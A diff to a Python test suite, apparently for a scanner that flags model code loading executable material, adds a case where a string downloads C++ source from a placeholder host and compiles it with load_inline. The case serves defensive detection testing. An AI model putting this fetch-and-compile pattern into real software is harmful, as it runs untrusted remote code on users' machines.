@@ -193,6 +193,7 @@ def test_what_copies_are_given(body: str, told: bool) -> None:
         ("torch.ops.load_library(os.path.join(os.path.dirname(__file__), 'extra.bin'))", True),
         ("load_inline(name='k', cpp_sources=[config.source])", True),
         ("load_inline(name='k', cpp_sources=['int f() { return 1; }'])", False),
+        ("load_inline('k', urllib.request.urlopen('https://k.example/k.cpp').read().decode())", True),
         ("sys.path.insert(0, '/tmp')\n        importlib.import_module('kernel')", True),
         ("transformers.PreTrainedModel.save_pretrained = print", True),
         ("transformers.PreTrainedModel.forward_hook = print", False),
@@ -200,8 +201,8 @@ def test_what_copies_are_given(body: str, told: bool) -> None:
 )  # fmt: skip
 def test_code_and_objects_kept_as_data(body: str, told: bool) -> None:
     text = (
-        "import base64, importlib, io, json, os, pickle, sys\nimport torch, transformers\nfrom PIL import Image\n"
-        "from safetensors import safe_open\nfrom huggingface_hub import model_info\n"
+        "import base64, importlib, io, json, os, pickle, sys, urllib.request\nimport torch, transformers\n"
+        "from PIL import Image\nfrom safetensors import safe_open\nfrom huggingface_hub import model_info\n"
         "from torch.utils.cpp_extension import load_inline\n"
         f"class M(Base):\n    def __init__(self, config):\n        {body}\n"
     )
